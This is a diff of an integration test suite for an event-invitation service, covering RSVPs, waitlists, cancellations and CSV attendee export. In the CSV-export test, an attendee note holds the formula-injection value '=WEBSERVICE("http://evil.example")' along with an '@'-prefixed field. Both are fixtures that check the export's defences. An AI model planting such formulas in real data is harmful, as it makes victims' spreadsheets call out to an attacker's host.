@@ -6,7 +6,7 @@ import { answer, countersKey, ensureInvitation, getEvent } from '../../shared/me
 import { documentClient } from '../../shared/platform/aws/clients.js';
 import { FORMULA_TRIGGERS } from '../../shared/platform/csv/csv.js';
 import { tenantPk } from '../../shared/platform/table/table.js';
-import { formatNumber } from '../../shared/platform/texts/console-texts.js';
+import { formatNumber } from '../../shared/platform/texts/format.js';
 import { parseCsvDocument } from '../csv.js';
 import { staffClient, waitFor } from '../helpers.js';
 
@@ -218,7 +218,8 @@ describe('the life of an event', () => {
           }),
         )
       ).Item;
-    const attendeeReminder = await schedule('attendees');
+    // Scheduled by the reaction to MeetingPublished (outbox → bus → meeting-reactions).
+    const attendeeReminder = await waitFor(() => schedule('attendees'), 15_000, 'the attendee reminder');
     expect(attendeeReminder?.dueAt).toBe(new Date(Date.parse(String(event.start)) - DAY).toISOString());
     expect(await schedule('non-responders')).toBeDefined();
     // Publishing again changes nothing.
@@ -235,7 +236,14 @@ describe('the life of an event', () => {
       organisationType: 'education',
     });
     expect(
-      (await answer(stored, 'johan-ek', { answer: 'attend', seats: 1, names: [], dietary: [] })).result,
+      (
+        await answer(
+          stored,
+          'johan-ek',
+          { answer: 'attend', seats: 1, names: [], dietary: [] },
+          { actor: 'test' },
+        )
+      ).result,
     ).toBe('attending');
 
     // The event moves a day and an hour later: attendees get one update.
@@ -287,10 +295,24 @@ describe('the life of an event', () => {
       });
     }
     expect(
-      (await answer(stored, 'karin-holm', { answer: 'attend', seats: 1, names: [], dietary: [] })).result,
+      (
+        await answer(
+          stored,
+          'karin-holm',
+          { answer: 'attend', seats: 1, names: [], dietary: [] },
+          { actor: 'test' },
+        )
+      ).result,
     ).toBe('attending');
     expect(
-      (await answer(stored, 'per-olsson', { answer: 'attend', seats: 1, names: [], dietary: [] })).result,
+      (
+        await answer(
+          stored,
+          'per-olsson',
+          { answer: 'attend', seats: 1, names: [], dietary: [] },
+          { actor: 'test' },
+        )
+      ).result,
     ).toBe('waitlisted');
     const grown = await admin.call('PUT', path, {
       ...validEvent({ capacity: 2, seatLimitPerOrganisation: 1 }),
@@ -321,7 +343,12 @@ describe('the life of an event', () => {
       organisationId: 'nyforetagarcentrum-nordostra-skane',
       organisationType: 'business-association',
     });
-    await answer(stored, 'sara-lund', { answer: 'attend', seats: 1, names: [], dietary: [] });
+    await answer(
+      stored,
+      'sara-lund',
+      { answer: 'attend', seats: 1, names: [], dietary: [] },
+      { actor: 'test' },
+    );
     const cancelled = await admin.call('POST', `${path}/cancel`, {
       message: 'Vi återkommer med nytt datum.',
     });
@@ -332,8 +359,10 @@ describe('the life of an event', () => {
         kind: string;
         content: { eventId?: string };
       }[];
-      return items.filter((c) => c.kind === 'event-cancelled' && c.content.eventId === event.eventId);
+      const found = items.filter((c) => c.kind === 'event-cancelled' && c.content.eventId === event.eventId);
+      return found.length > 0 ? found : undefined;
     });
+    await new Promise((r) => setTimeout(r, 1000));
     expect(campaign).toHaveLength(1);
     expect((await admin.call('POST', `${path}/cancel`)).status).toBe(200);
     expect((await admin.call('PUT', path, { ...validEvent(), expectedVersion: 3 })).status).toBe(409);
@@ -415,12 +444,17 @@ describe('inviting', () => {
       organisationId: 'region-skane',
       organisationType: 'public-partner',
     });
-    await answer(stored, 'ola-persson', {
-      answer: 'attend',
-      seats: 2,
-      names: ['Ola', 'Eva'],
-      dietary: ['vegan'],
-    });
+    await answer(
+      stored,
+      'ola-persson',
+      {
+        answer: 'attend',
+        seats: 2,
+        names: ['Ola', 'Eva'],
+        dietary: ['vegan'],
+      },
+      { actor: 'test' },
+    );
     const editor = await staffClient(runtime, HLM_EDITOR);
     const mark = await editor.call('POST', `${path}/attendance`, {
       contactId: 'ola-persson',
@@ -489,14 +523,19 @@ describe('the attendee list (CSV)', () => {
         organisationId: `${e.id}-org`,
         organisationType: 'company',
       });
-      await answer(stored, e.id, {
-        answer: 'attend',
-        seats: 1,
-        names: e.names,
-        dietary: [],
-        note: '=WEBSERVICE("http://evil.example")',
-        accessibility: '@rullstol',
-      });
+      await answer(
+        stored,
+        e.id,
+        {
+          answer: 'attend',
+          seats: 1,
+          names: e.names,
+          dietary: [],
+          note: '=WEBSERVICE("http://evil.example")',
+          accessibility: '@rullstol',
+        },
+        { actor: 'test' },
+      );
     }
     const response = await admin.call('GET', `/api/events/${event.eventId}/export.csv`);
     expect(response.status).toBe(200);
